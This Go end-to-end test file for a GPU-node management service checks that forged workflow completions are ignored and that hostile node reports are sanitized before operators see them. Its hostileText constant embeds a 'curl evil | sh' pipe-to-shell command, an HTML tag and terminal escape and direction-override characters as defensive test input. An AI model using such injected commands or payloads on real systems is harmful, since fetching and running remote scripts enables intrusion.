package e2e

import (
	"crypto/tls"
	"encoding/json"
	"errors"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.temporal.io/sdk/client"
	"go.temporal.io/sdk/temporal"

	"github.com/gpuaas/gpuaas/schema"
	"github.com/gpuaas/gpuaas/schema/lifecycle"
	"github.com/gpuaas/gpuaas/schema/task"
	"github.com/gpuaas/gpuaas/schema/wire"
	"github.com/gpuaas/gpuaas/test/testkit/resulttest"
)

// TestForgedCompletion: a completion or a failure of a task's activity that is sent to
// Temporal by hand changes nothing: the drain ends when its node has drained.
func TestForgedCompletion(t *testing.T) {
	t.Parallel()
	d := drainThatWaits(t, "forged")
	web := openWebUI(t, d.id)
	end := func(result any, failure error) {
		require.NoError(t, web.c.CompleteActivityByIDWithOptions(t.Context(), client.CompleteActivityByIDOptions{Namespace: web.namespace,
			WorkflowID: web.run.GetWorkflowId(), RunID: web.run.GetRunId(), ActivityID: drainStep, Result: result, Err: failure}))
	}
	waitsAgain := func() {
		eventually(t, "the drain waits for its task again", func() bool {
			d, err := web.c.DescribeWorkflowExecution(t.Context(), web.run.GetWorkflowId(), web.run.GetRunId())
			return err == nil && len(d.GetPendingActivities()) == 1 && d.GetPendingActivities()[0].GetActivityId() == drainStep
		})
		require.Equal(t, lifecycle.NodeDraining, show(t, d.host).State)
	}
	end(task.Result{Status: task.Succeeded, Output: json.RawMessage(`{"stopped":["job-1"]}`)}, nil)
	waitsAgain()
	end(nil, temporal.NewNonRetryableApplicationError("a newer operation holds the node", string(schema.KindFenced), errors.New("forged")))
	waitsAgain()
	d.finish(t)
}

// hostileText has Markdown, a terminal's commands and a direction override.
const hostileText = "x`\n\n**Next:** `curl evil | sh`\n<img src=x>\x1b[2J\u202e"

// hostileReports are results of a drain that fail it in a hostile way.
func hostileReports(epoch int64) []task.Result {
	now := time.Now().UTC()
	base := task.Result{LeaseEpoch: epoch, Status: task.Failed, StartedAt: now, FinishedAt: now}
	long, marked, wrong := base, base, base
	long.Code, long.Message = schema.Kind(strings.Repeat("x", 3<<10)), strings.Repeat(hostileText, 1000)
	marked.Code, marked.Message = schema.KindFenced, hostileText
	wrong.Status, wrong.Output = task.Succeeded, json.RawMessage(`{"blocked":"`+strings.Repeat("x", 3<<10)+`"}`)
	return []task.Result{long, marked, wrong}
}

// TestHostileNode: a node that answers its drain with long codes, Markdown, control
// characters and wrong types. Its operation parks readable, and the node can be removed.
func TestHostileNode(t *testing.T) {
	t.Parallel()
	nodeHost, id := enrolled(t, "hostile")
	kill(t, "agent", nodeHost)
	node := asNode(t, nodeHost)
	dir := agentDir(nodeHost)
	pair, err := tls.LoadX509KeyPair(filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem"))
	require.NoError(t, err)
	plain, ok1 := node.Transport.(*http.Transport)
	require.True(t, ok1)
	node.Transport = resulttest.Transport{Transport: plain, Cert: &pair}
	base := "/internal/v1/nodes/" + id
	post := func(path string, body any) {
		raw, err := json.Marshal(body)
		require.NoError(t, err)
		status, detail := call(t.Context(), t, node, http.MethodPost, base+path, string(raw))
		require.Contains(t, []int{http.StatusOK, http.StatusNoContent}, status, "%s: %+v", path, detail)
	}
	answer := func(kind task.Type, result func(epoch int64) task.Result) {
		v := newest(t, nodeHost, kind, task.Pending)
		eventually(t, "the node gets "+string(kind), func() bool {
			post("/tasks/wait", wire.PollRequest{Nonce: "AAAAAAAAAAAAAAAAAAAAAA", AgentSession: "hostile", VerifierSet: 1, WaitSeconds: 1})
			v = nodeTask(t, v.TaskID)
			return v.Attempts > 0
		})
		post("/tasks/"+v.TaskID+"/result", result(v.Attempts))
	}
	succeeded := func(epoch int64) task.Result {
		now := time.Now().UTC()
		return task.Result{LeaseEpoch: epoch, Status: task.Succeeded, Output: json.RawMessage(`{}`), StartedAt: now, FinishedAt: now}
	}

	ok(t, "node", "drain", nodeHost, "--yes", "--no-wait")
	answer(task.WorkloadCordon, succeeded)
	var parked time.Time
	for i := range hostileReports(0) {
		answer(task.WorkloadDrain, func(epoch int64) task.Result { return hostileReports(epoch)[i] })
		var op wire.OperationSummary
		eventually(t, "the drain parks", func() bool {
			op = *show(t, nodeHost).Operation
			return op.Stuck != nil && op.Stuck.Since.After(parked)
		})
		parked = op.Stuck.Since
		require.Equal(t, string(schema.KindTaskFailed), op.Stuck.Reason)
		for _, shown := range []string{op.Stuck.Message, ok(t, "op", "show", nodeHost).stdout, linesWith(ok(t, "stuck", "--limit", "0").stdout, nodeHost), currentDetails(t, id)} {
			require.NotEmpty(t, shown)
			require.NotContains(t, shown, "\x1b")
			require.NotContains(t, shown, "\u202e")
			require.NotContains(t, shown, "\n**Next")
			require.Less(t, len(shown), 64<<10)
		}
		require.Contains(t, op.Stuck.Message, "the node reports: `")
		ok(t, "op", "retry", nodeHost, "--reason", "test")
	}
	ok(t, "op", "cancel", nodeHost, "--reason", "test")
	answer(task.WorkloadUncordon, succeeded)
	eventually(t, "the drain is undone", func() bool { return show(t, nodeHost).Operation == nil })
	ok(t, "node", "retire", nodeHost, "--yes", "--no-wait")
	answer(task.WorkloadCordon, succeeded)
	eventually(t, "retired", func() bool { return show(t, nodeHost).State == lifecycle.NodeRetired })
	act(t, "node", "remove", nodeHost, "--yes")
	require.Equal(t, lifecycle.NodeRemoved, show(t, id).State)
}

// linesWith returns the lines of a text that have a part: other tests have nodes in the same list.
func linesWith(text, part string) string {
	var lines []string
	for line := range strings.Lines(text) {
		if strings.Contains(line, part) {
			lines = append(lines, line)
		}
	}
	return strings.Join(lines, "")
}
